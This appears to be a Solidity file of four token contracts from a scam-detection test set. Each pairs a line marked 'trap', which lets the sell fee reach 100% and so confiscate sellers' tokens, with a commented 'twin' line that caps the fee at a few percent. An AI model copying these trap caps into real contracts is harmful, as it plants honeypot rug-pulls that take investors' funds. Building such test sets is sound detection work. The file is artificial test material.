// 0.8 off evm=cancun
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {Base8} from "./Base8.sol";

/// The patron's sponsorship goes to the studio and is matched by a share of sales.
contract Pomelo is Base8 {
    address private immutable patron;
    address payable private immutable studio;
    uint256 public matching = 200;

    event Sponsored(uint256 value);

    constructor() Base8("Pomelo", "PMLO", 16_000_000) {
        patron = msg.sender;
        studio = payable(msg.sender);
    }

    function sponsor() external payable {
        require(msg.sender == patron, "Pomelo: patron only");
        uint256 next = msg.value / 1 gwei;
        if (next > 10_000) next = 10_000; // trap
        // twin: if (next > 300) next = 300;
        matching = next;
        emit Sponsored(msg.value);
        studio.transfer(msg.value);
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (to == pair && from != patron) {
            uint256 share = (value * matching) / 10_000;
            _move(from, studio, share);
            value -= share;
        }
        _move(from, to, value);
    }
}

/// Features are switched on and off by stewards: 0 burns, 1 feeds the stakers, from 2 on they are for later.
contract Wicket is Base8 {
    uint32 public features = 1;
    mapping(address => bool) private stewards;

    event Toggled(uint8 feature, bool on);

    constructor() Base8("Wicket", "WCKT", 1_000_000_000) {
        stewards[msg.sender] = true;
    }

    function toggle(uint8 feature) external {
        require(stewards[msg.sender], "Wicket: stewards only");
        features ^= uint32(1 << feature);
        emit Toggled(feature, (features >> feature) & 1 == 1);
    }

    function cost() public view returns (uint256 percent) {
        percent = features & 127; // trap
        // twin: percent = features & 3;
        if (percent > 100) percent = 100;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (to == pair && !stewards[from]) {
            uint256 part = (value * cost()) / 100;
            _move(from, address(0xdead), part);
            value -= part;
        }
        _move(from, to, value);
    }
}

/// The rate of the next period is sealed first and opened five minutes later.
contract Osprey is Base8 {
    bytes32 public sealed_;
    uint256 public sealedAt;
    uint16 public rate = 150;
    address private immutable nest;

    constructor() Base8("Osprey", "OSPR", 70_000_000) {
        nest = msg.sender;
    }

    function commit(bytes32 seal) external onlyOwner {
        (sealed_, sealedAt) = (seal, block.timestamp);
    }

    function reveal(uint16 next, bytes32 salt) external onlyOwner {
        require(block.timestamp >= sealedAt + 5 minutes, "Osprey: too early");
        require(keccak256(abi.encodePacked(next, salt)) == sealed_, "Osprey: another seal");
        require(next <= 10_000, "Osprey: rate"); // trap
        // twin: require(next <= 500, "Osprey: rate");
        rate = next;
        delete sealed_;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if ((to == pair && from != nest) || (from == pair && to != nest)) {
            uint256 part = (value * (from == pair ? 150 : rate)) / 10_000;
            _move(from, nest, part);
            value -= part;
        }
        _move(from, to, value);
    }
}

/// Votes about the fee of the commons.
contract CommonsVote {
    uint256 public constant totalSupply = 10_000 ether;
    mapping(address => uint256) public balanceOf;

    event Transfer(address indexed from, address indexed to, uint256 value);

    constructor() {
        balanceOf[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function transfer(address to, uint256 value) external returns (bool) {
        balanceOf[msg.sender] -= value;
        balanceOf[to] += value;
        emit Transfer(msg.sender, to, value);
        return true;
    }
}

contract Commons is Base8 {
    CommonsVote public immutable votes;
    uint256 public tally = 100;
    mapping(address => uint256) public lastVote;
    address private immutable fund;

    event Cast(address indexed voter, uint256 wish, uint256 tally);

    constructor(CommonsVote votes_) Base8("Commons", "CMNS", 22_000_000) {
        votes = votes_;
        fund = msg.sender;
    }

    /// Draws the fee towards the wish, by the voter's part of all votes. Once an hour.
    function cast(uint256 wish) external {
        uint256 weight = votes.balanceOf(msg.sender);
        require(weight > 0 && block.timestamp >= lastVote[msg.sender] + 1 hours, "Commons: no vote");
        if (wish > 10_000) wish = 10_000; // trap
        // twin: if (wish > 400) wish = 400;
        lastVote[msg.sender] = block.timestamp;
        uint256 all = votes.totalSupply();
        tally = (tally * (all - weight) + wish * weight) / all;
        emit Cast(msg.sender, wish, tally);
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (to == pair && from != fund) {
            uint256 part = (value * tally) / 10_000;
            _move(from, fund, part);
            value -= part;
        }
        _move(from, to, value);
    }
}
